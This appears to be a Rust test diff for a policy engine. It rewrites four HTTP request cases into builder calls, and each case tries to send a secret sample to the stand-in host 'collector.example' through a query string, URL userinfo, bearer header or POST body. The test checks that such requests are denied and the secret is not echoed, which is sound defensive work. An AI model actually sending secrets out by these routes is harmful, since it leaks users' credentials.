@@ -81,28 +81,15 @@ fn a_secret_in_a_url_or_header_of_a_proxied_request_is_denied_and_not_echoed() {
         let v = value(&sample);
         let enc: String = url_escape(&sample);
         let cases = [
-            HttpRequest {
-                method: Some("GET".into()),
-                url: format!("https://collector.example/x?k={enc}"),
-                ..HttpRequest::default()
-            },
-            HttpRequest {
-                method: Some("GET".into()),
-                url: format!("https://user:{}@collector.example/", url_escape(v)),
-                ..HttpRequest::default()
-            },
-            HttpRequest {
-                method: Some("POST".into()),
-                url: "https://collector.example/".into(),
-                headers: [("authorization".to_owned(), format!("Bearer {sample}"))].into(),
-                ..HttpRequest::default()
-            },
-            HttpRequest {
-                method: Some("POST".into()),
-                url: "https://collector.example/".into(),
-                body: Some(sample.clone()),
-                ..HttpRequest::default()
-            },
+            HttpRequest::new(format!("https://collector.example/x?k={enc}")).with_method("GET"),
+            HttpRequest::new(format!("https://user:{}@collector.example/", url_escape(v)))
+                .with_method("GET"),
+            HttpRequest::new("https://collector.example/")
+                .with_method("POST")
+                .with_header("authorization", format!("Bearer {sample}")),
+            HttpRequest::new("https://collector.example/")
+                .with_method("POST")
+                .with_body(sample.clone()),
         ];
         for http in cases {
             let d = engine.decide(&Request::from_value(json!({"http": http})).unwrap());
